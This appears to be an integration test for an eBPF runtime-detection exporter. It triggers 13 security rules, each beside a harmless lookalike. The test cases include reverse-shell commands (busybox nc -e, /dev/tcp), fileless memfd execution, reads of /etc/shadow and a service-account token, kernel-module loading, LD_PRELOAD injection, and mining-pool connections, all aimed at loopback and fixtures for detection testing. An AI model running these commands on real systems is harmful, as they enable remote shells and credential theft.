import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestCgroup, type TestCgroup } from '../support/cgroup.js';
import { selectSamples } from '../support/exposition.js';
import { startExporter, type RunningExporter } from '../support/exporter.js';
import { startLoopbackDns, type LoopbackDns } from '../support/loopback-dns.js';
import { waitFor } from '../support/wait-for.js';

/**
 * Every behavioural rule, triggered for real on this machine with real BPF, next to
 * a harmless lookalike that must stay quiet. Each script runs in a cgroup of its own,
 * so each is one workload.
 */
interface RuleCase {
  readonly rule: string;
  readonly name: string;
  readonly attack: string;
  readonly lookalike: string;
  /** The item the hit must name (a regular expression source). */
  readonly item: string;
}

const TOKEN_DIR = '/run/secrets/kubernetes.io/serviceaccount';

describe('behavioural rules with real BPF', () => {
  let exporter: RunningExporter;
  let work: string;
  let helpers: string;
  let tcp: Server;
  let tcpPort = 0;
  let dns: LoopbackDns;
  let createdSecrets = false;
  const cgroups: TestCgroup[] = [];

  beforeAll(async () => {
    // Not under /tmp: the exec-from-temp rule would fire on every helper.
    mkdirSync('/run/telltale-test', { recursive: true });
    work = mkdtempSync('/run/telltale-test/rules-');
    helpers = join(work, 'rule-helpers');
    execFileSync('gcc', ['-O2', join(import.meta.dirname, 'rule-helpers.c'), '-o', helpers]);
    execFileSync('cp', ['/bin/cat', join(work, 'myapp')]);
    writeFileSync(join(work, 'garbage.ko'), 'not a kernel module');
    mkdirSync(join(work, 'ovl', 'lower'), { recursive: true });
    for (const dir of ['upper', 'work', 'merged']) mkdirSync(join(work, 'ovl', dir));
    execFileSync('cp', ['/bin/busybox', join(work, 'ovl', 'lower', 'busybox-lower')]);
    execFileSync('mount', ['-t', 'overlay', 'overlay', '-o', `lowerdir=${work}/ovl/lower,upperdir=${work}/ovl/upper,workdir=${work}/ovl/work`, join(work, 'ovl', 'merged')]);
    if (!existsSync(TOKEN_DIR)) {
      mkdirSync(TOKEN_DIR, { recursive: true });
      createdSecrets = true;
    }
    writeFileSync(join(TOKEN_DIR, 'token'), 'eyJhbGciOiJSUzI1NiJ9.test.token');

    tcp = createServer((socket) => setTimeout(() => socket.destroy(), 200));
    await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
    const address = tcp.address();
    tcpPort = typeof address === 'object' && address ? address.port : 0;
    dns = await startLoopbackDns();
    exporter = await startExporter();
  });

  afterAll(async () => {
    await exporter?.stop();
    for (const cgroup of cgroups) await cgroup.remove();
    tcp?.close();
    await dns?.close();
    try {
      execFileSync('umount', [join(work, 'ovl', 'merged')]);
    } catch {
      // not mounted
    }
    rmSync(join(TOKEN_DIR, 'token'), { force: true });
    if (createdSecrets) rmSync('/run/secrets', { recursive: true, force: true });
    if (work) rmSync(work, { recursive: true, force: true });
  });

  const cases = (): RuleCase[] => [
    {
      rule: 'reverse-shell',
      name: 'a shell with its stdin and stdout on a TCP socket',
      attack: `busybox nc 127.0.0.1 ${tcpPort} -e /bin/sh`,
      lookalike: `sh -c 'echo hello'; busybox nc 127.0.0.1 ${tcpPort} -e /bin/echo hi`,
      item: '^/usr/bin/dash$',
    },
    {
      rule: 'reverse-shell',
      name: 'an interactive shell spawned by a process holding a connected socket',
      attack: `exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/${tcpPort}; sh -i < /dev/null > /dev/null 2>&1'`,
      lookalike: `exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/${tcpPort}; sh -c "echo hi" > /dev/null'`,
      item: '^/usr/bin/dash$',
    },
    {
      rule: 'fileless-exec',
      name: 'a binary executed from a memfd',
      attack: `'${helpers}' memfd-exec /bin/true`,
      lookalike: `'${helpers}' ptrace-traceme; /bin/true`,
      item: '^/memfd:payload',
    },
    {
      rule: 'exec-from-temp',
      name: 'a binary dropped into /dev/shm',
      attack: `cp /bin/true /dev/shm/telltale-dropped-$$ && /dev/shm/telltale-dropped-$$; rm -f /dev/shm/telltale-dropped-$$`,
      lookalike: `printf 'true\\n' > /dev/shm/telltale-script-$$; sh /dev/shm/telltale-script-$$; rm -f /dev/shm/telltale-script-$$`,
      item: '^/dev/shm/telltale-dropped-',
    },
    {
      rule: 'exec-not-in-image',
      name: 'a binary written to the overlayfs upper layer',
      attack: `cp '${work}/ovl/merged/busybox-lower' '${work}/ovl/merged/dropped' && '${work}/ovl/merged/dropped' true`,
      lookalike: `'${work}/ovl/merged/busybox-lower' true`,
      item: '/ovl/merged/dropped$',
    },
    {
      rule: 'kernel-module-load',
      name: 'an attempt to load a kernel module',
      attack: `busybox insmod '${work}/garbage.ko' || true`,
      lookalike: 'cat /proc/modules > /dev/null',
      item: 'init_module$',
    },
    {
      rule: 'ptrace-attach',
      name: 'PTRACE_ATTACH to another process',
      attack: `'${helpers}' ptrace-attach`,
      lookalike: `'${helpers}' ptrace-traceme`,
      item: '^PTRACE_ATTACH$',
    },
    {
      rule: 'namespace-change',
      name: 'unshare into a new network namespace',
      attack: 'unshare -n true',
      lookalike: `'${helpers}' unshare 0x400`,
      item: '^unshare net$',
    },
    {
      rule: 'service-account-token-read',
      name: 'cat of the service-account token',
      attack: `cat ${TOKEN_DIR}/token > /dev/null`,
      lookalike: `'${work}/myapp' ${TOKEN_DIR}/token > /dev/null`,
      item: `^${TOKEN_DIR}/token$`,
    },
    {
      rule: 'sensitive-file-read',
      name: 'cat of /etc/shadow',
      attack: 'cat /etc/shadow > /dev/null',
      lookalike: 'cat /etc/passwd > /dev/null',
      item: '^/etc/shadow$',
    },
    {
      rule: 'crypto-miner',
      name: 'a connection to a mining-pool port',
      attack: 'busybox nc -w 1 127.0.0.1 3333 < /dev/null || true',
      lookalike: `busybox nc -w 1 127.0.0.1 ${tcpPort} < /dev/null || true`,
      item: '^127\\.0\\.0\\.1:3333$',
    },
    {
      rule: 'crypto-miner',
      name: 'a lookup of a mining-pool domain',
      attack: 'busybox nslookup -type=a xmr-eu1.nanopool.org 127.0.0.1 > /dev/null 2>&1 || true',
      lookalike: 'busybox nslookup -type=a pool.ntp.org 127.0.0.1 > /dev/null 2>&1 || true',
      item: '^xmr-eu1\\.nanopool\\.org$',
    },
    {
      rule: 'ld-preload',
      name: 'LD_PRELOAD of a library outside the system directories',
      attack: `LD_PRELOAD='${work}/evil.so' /bin/true 2> /dev/null`,
      lookalike: 'LD_PRELOAD=/lib/x86_64-linux-gnu/libc.so.6 /bin/true',
      item: '/evil\\.so$',
    },
  ];

  it.each(Array.from({ length: 13 }, (_, i) => i))('case %i: the attack fires and the lookalike stays quiet', async (index) => {
    const testCase = cases()[index];
    if (!testCase) throw new Error(`no case ${index}`);
    const attack = createTestCgroup(`telltale-rule-${index}-attack-${process.pid}`);
    const lookalike = createTestCgroup(`telltale-rule-${index}-lookalike-${process.pid}`);
    cgroups.push(attack, lookalike);
    await lookalike.run(testCase.lookalike);
    await attack.run(testCase.attack);
    // Records leave the kernel in order: once this marker is seen, both runs were processed.
    const marker = `${work}/marker-${index}`;
    writeFileSync(marker, '');
    await lookalike.run(`cat '${marker}' > /dev/null`);
    await waitFor(
      () => (exporter.logs().some((l) => l['msg'] === 'observation' && l['workload'] === lookalike.workload && l['item'] === `${marker} (r)`) ? true : undefined),
      { description: `the marker of case ${index} (${testCase.name})`, timeoutMs: 20_000 },
    );
    const metrics = await exporter.metrics();
    const hits = selectSamples(metrics, 'telltale_rule_detections_total', { workload: attack.workload, rule: testCase.rule });
    expect(hits.map((h) => h.value), `${testCase.rule} on ${testCase.name}`).toEqual([expect.any(Number)]);
    const items = selectSamples(metrics, 'telltale_rule_last_detection_timestamp_seconds', { workload: attack.workload, rule: testCase.rule }).map((s) => s.labels['item'] ?? '');
    expect(items.some((item) => new RegExp(testCase.item).test(item)), `items ${JSON.stringify(items)} should match ${testCase.item}`).toBe(true);
    expect(selectSamples(metrics, 'telltale_rule_detections_total', { workload: lookalike.workload, rule: testCase.rule }), `${testCase.rule} must stay quiet on the lookalike`).toEqual([]);
  });
});
